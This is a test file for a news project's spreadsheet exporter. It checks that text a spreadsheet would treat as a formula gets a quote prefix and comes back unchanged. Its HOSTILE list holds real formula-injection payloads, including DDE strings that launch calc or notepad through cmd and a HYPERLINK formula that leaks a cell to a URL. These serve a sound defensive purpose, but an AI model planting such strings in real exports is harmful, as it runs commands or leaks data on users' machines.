"""Texts that a spreadsheet would run are made harmless, and come back as they were."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from libya_news.exporting.flat import Column
from libya_news.exporting.spreadsheet import cell, guarded, rows_into, unguarded, value_of, write_rows

HOSTILE = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://e.org?"&A1,"x")',
    "+1+1",
    "-1+1",
    "-cmd|' /C notepad'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200e=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff20SUM(A1)",
    "'=1+1",
    "''=1+1",
    "=",
    "-",
    "-5\n",
    "-inf",
    "+1_0",
    "-\u0665",
]
HARMLESS = [
    "",
    "Sirte",
    "-5",
    "-5.25",
    "+218",
    "5",
    "a=b",
    "1-2",
    "'quoted'",
    "\u2014 a dash",
    "44 soldiers",
    "(=1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_looks_like_a_formula_is_guarded(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert guarded(text) == unguarded(text) == text


hostile = st.lists(st.sampled_from([*"=+-@'\t\r\n \u00a0\u200b\ufeffA1.5"]), max_size=6).map("".join)


class TestLaw:
    """A text in a cell is read back as it was, with the guard and without."""

    @given(st.text() | hostile)
    def test_guard_and_back(self, text: str) -> None:
        made = guarded(text)
        assert unguarded(made) == text
        assert made in (text, f"'{text}")

    @given(
        st.text(alphabet=st.characters(exclude_categories=["Cs"]), min_size=1) | hostile.filter(bool),
        st.booleans(),
    )
    def test_through_a_file(self, text: str, guard: bool) -> None:
        out = io.StringIO(newline="")
        write_rows(rows_into(out), [(text, 4, None, True, (text, "b"))], guard=guard)
        [row] = csv.reader(io.StringIO(out.getvalue(), newline=""), strict=True)
        kinds = ("text", "integer", "integer", "boolean", "texts")
        columns = [Column(name="x", type=kind, description="") for kind in kinds]  # type: ignore[arg-type]
        values = [value_of(t, c, guard=guard) for t, c in zip(row, columns, strict=True)]
        assert values == [text, 4, None, True, (text, "b")]

    @given(st.floats(allow_nan=False, allow_infinity=False))
    def test_numbers_keep_their_digits(self, number: float) -> None:
        assert value_of(cell(number), Column(name="x", type="real", description="")) == number
